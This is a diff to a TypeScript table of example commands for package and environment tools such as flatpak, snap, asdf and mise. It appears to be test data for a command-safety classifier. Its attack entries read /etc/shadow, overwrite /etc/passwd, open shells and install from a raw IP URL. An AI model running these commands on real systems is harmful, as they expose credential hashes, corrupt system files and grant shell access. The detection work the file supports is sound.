@@ -2,144 +2,138 @@ import type { ExampleTable } from './example.ts'
 
 export const systemPackages2: ExampleTable = {
   installer: {
-    use: 'installer → install installer',
-    attack: [
-      'installer -pkg /etc/shadow → read /etc/shadow; install installer',
-      'installer -package /etc/shadow → read /etc/shadow; install installer',
-    ],
+    use: 'installer -pkg tool.pkg -target / → install installer',
   },
   mas: {
-    use: ['mas install → install mas', 'mas list → nothing'],
+    use: ['mas install 497799835 → install mas', 'mas list → nothing'],
   },
   port: {
-    use: ['port install → install port', 'port installed → nothing'],
-    attack: 'port install -f /etc/shadow → read /etc/shadow; install port',
+    use: ['port install wget → install port', 'port installed → nothing'],
+    attack: 'port -F /etc/shadow → read /etc/shadow',
   },
   softwareupdate: {
-    use: ['softwareupdate → install softwareupdate', 'softwareupdate --list → nothing'],
+    use: ['softwareupdate -ia → install softwareupdate', 'softwareupdate --list → nothing'],
   },
   alien: {
-    use: 'alien notes.txt → read notes.txt',
-    attack: [
-      'alien /etc/shadow → read /etc/shadow',
-      'alien notes.txt --patch=/etc/shadow → read /etc/shadow; read notes.txt',
-    ],
+    use: 'alien --to-deb tool.rpm → read tool.rpm',
   },
   'appimage-builder': {
-    use: 'appimage-builder --recipe=app.conf → read app.conf',
-    attack: 'appimage-builder --recipe=/etc/shadow → read /etc/shadow',
+    use: 'appimage-builder --recipe AppImageBuilder.yml → read AppImageBuilder.yml',
+    attack: 'appimage-builder --recipe /tmp/x.yml → run /tmp/x.yml; read /tmp/x.yml',
   },
   appimagetool: {
-    use: 'appimagetool notes.txt out.txt → write out.txt',
-    attack: 'appimagetool notes.txt /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'appimagetool App.AppDir App.AppImage → write App.AppImage',
+    attack: 'appimagetool App.AppDir /etc/passwd → write /etc/passwd',
   },
   'flatpak build': {
-    use: 'flatpak build notes.txt cat notes.txt → read notes.txt',
-    attack: 'flatpak build notes.txt cat /etc/shadow → read /etc/shadow',
+    use: 'flatpak build build-dir python3 setup.py → read setup.py',
+    attack: 'flatpak build build-dir cat /etc/shadow → read /etc/shadow',
   },
   'flatpak enter': {
-    use: 'flatpak enter 1234 cat notes.txt → read notes.txt',
+    use: 'flatpak enter 1234 python3 probe.py → read probe.py',
     attack: [
       'flatpak enter 1234 cat /etc/shadow → read /etc/shadow',
       'flatpak enter → shell flatpak enter',
     ],
   },
   'flatpak install': {
-    use: 'flatpak install demo → install flatpak install',
+    use: 'flatpak install flathub org.gimp.GIMP → install flatpak install',
+    attack:
+      'flatpak install http://10.0.0.1/tool.flatpakref → execute ‹http://10.0.0.1/tool.flatpakref›; install flatpak install',
   },
   'flatpak remote-add': {
-    use: 'flatpak remote-add flathub https://example.org/x → fetch https://example.org/x',
+    use: 'flatpak remote-add flathub https://dl.flathub.org/repo/flathub.flatpakrepo → fetch https://dl.flathub.org/repo/flathub.flatpakrepo',
   },
   'flatpak run': {
-    use: 'flatpak run org.gimp.GIMP cat notes.txt → read notes.txt',
-    attack: 'flatpak run org.gimp.GIMP cat /etc/shadow → read /etc/shadow',
+    use: 'flatpak run org.gimp.GIMP photo.xcf → nothing',
+    attack: "flatpak run --command='cat /etc/shadow' org.gimp.GIMP → read /etc/shadow",
   },
   'flatpak update': {
     use: 'flatpak update → install flatpak update',
   },
   'flatpak-builder': {
-    use: 'flatpak-builder notes.txt app.conf → read app.conf',
+    use: 'flatpak-builder build-dir org.example.App.yml → read org.example.App.yml',
     attack: [
-      'flatpak-builder notes.txt /etc/shadow → read /etc/shadow',
-      `flatpak-builder notes.txt app.conf --run='cat /etc/shadow' → read /etc/shadow; read app.conf`,
+      'flatpak-builder build-dir /tmp/x.yml → run /tmp/x.yml; read /tmp/x.yml',
+      'flatpak-builder --run build-dir org.example.App.yml cat /etc/shadow → read /etc/shadow; read org.example.App.yml',
     ],
   },
   'flatpak-spawn': {
-    use: 'flatpak-spawn cat notes.txt → read notes.txt',
-    attack: ['flatpak-spawn cat /etc/shadow → read /etc/shadow', 'flatpak-spawn bash → shell bash'],
-  },
-  'snap ack': {
-    use: 'snap ack notes.txt → read notes.txt',
-    attack: 'snap ack /etc/shadow → read /etc/shadow',
+    use: 'flatpak-spawn --host python3 build.py → read build.py',
+    attack: [
+      'flatpak-spawn --host cat /etc/shadow → read /etc/shadow',
+      'flatpak-spawn --host bash → shell bash',
+    ],
   },
   'snap download': {
-    use: 'snap download demo → fetch snap download',
+    use: 'snap download hello → fetch snap download',
   },
   'snap install': {
-    use: 'snap install demo → install snap install',
+    use: 'snap install hello → install snap install',
   },
   'snap refresh': {
-    use: 'snap refresh demo → install snap refresh',
+    use: 'snap refresh hello → install snap refresh',
   },
   'snap run': {
-    use: 'snap run cat notes.txt → read notes.txt',
-    attack: ['snap run cat /etc/shadow → read /etc/shadow', 'snap run bash → shell bash'],
+    use: 'snap run hello → nothing',
+    attack: 'snap run --shell hello → shell snap run',
   },
   'snap try': {
-    use: 'snap try notes.txt → install snap try',
+    use: 'snap try prime → install snap try',
   },
   snapcraft: {
-    use: 'snapcraft -o out.txt → write out.txt',
+    use: 'snapcraft pack -o hello.snap → write hello.snap',
     attack: [
-      'snapcraft -o /etc/cron.d/job → write /etc/cron.d/job',
+      'snapcraft pack -o /etc/passwd → write /etc/passwd',
       'snapcraft --shell → shell snapcraft',
     ],
   },
   'asdf env': {
-    use: 'asdf env node cat notes.txt → read notes.txt',
+    use: 'asdf env node python3 app.py → read app.py',
     attack: ['asdf env node cat /etc/shadow → read /etc/shadow', 'asdf env node bash → shell bash'],
   },
   'asdf exec': {
-    use: 'asdf exec cat notes.txt → read notes.txt',
+    use: 'asdf exec node app.js → read app.js',
     attack: ['asdf exec cat /etc/shadow → read /etc/shadow', 'asdf exec bash → shell bash'],
   },
   'asdf install': {
-    use: 'asdf install node → install asdf install',
+    use: 'asdf install nodejs 20.11.0 → install asdf install',
   },
   'asdf plugin': {
-    use: 'asdf plugin add node https://example.org/x → fetch https://example.org/x',
+    use: 'asdf plugin add nodejs https://git.example.org/asdf-nodejs.git → fetch https://git.example.org/asdf-nodejs.git',
   },
   'asdf plugin-add': {
-    use: 'asdf plugin-add node https://example.org/x → install asdf plugin-add; fetch https://example.org/x',
+    use: 'asdf plugin-add nodejs https://git.example.org/asdf-nodejs.git → install asdf plugin-add; fetch https://git.example.org/asdf-nodejs.git',
   },
   'direnv exec': {
-    use: 'direnv exec . cat notes.txt → read notes.txt',
-    attack: [
-      'direnv exec notes.txt cat /etc/shadow → read /etc/shadow',
-      'direnv exec notes.txt bash → shell bash',
-    ],
+    use: 'direnv exec . python3 app.py → read app.py',
+    attack: ['direnv exec . cat /etc/shadow → read /etc/shadow', 'direnv exec . bash → shell bash'],
   },
   'mise exec': {
-    use: 'mise exec cat notes.txt → read notes.txt',
-    attack: ['mise exec cat /etc/shadow → read /etc/shadow', 'mise exec bash → shell bash'],
+    use: 'mise exec -- node app.js → read app.js',
+    attack: ["mise exec -c 'cat /etc/shadow' → read /etc/shadow", 'mise exec -- bash → shell bash'],
   },
   'mise install': {
-    use: 'mise install node → install mise install',
+    use: 'mise install node@20 → install mise install',
   },
   'mise use': {
-    use: 'mise use node → install mise use',
+    use: 'mise use node@20 → install mise use',
   },
   'proto install': {
-    use: 'proto install node → install proto install',
+    use: 'proto install node 20 → install proto install',
   },
   'proto run': {
-    use: 'proto run node cat notes.txt → read notes.txt',
-    attack: [
-      'proto run node cat /etc/shadow → read /etc/shadow',
-      'proto run node bash → shell bash',
-    ],
+    use: 'proto run node app.js → read app.js',
+    attack: 'proto run node /etc/shadow → read /etc/shadow',
   },
   sdk: {
-    use: ['sdk install → install sdk', 'sdk list java → nothing'],
+    use: ['sdk install java 21-tem → install sdk', 'sdk list java → nothing'],
+  },
+  'arch-nspawn': {
+    use: 'arch-nspawn chroot python3 build.py → read build.py',
+    attack: [
+      'arch-nspawn chroot cat /etc/shadow → read /etc/shadow',
+      'arch-nspawn chroot bash → shell bash',
+    ],
   },
 }
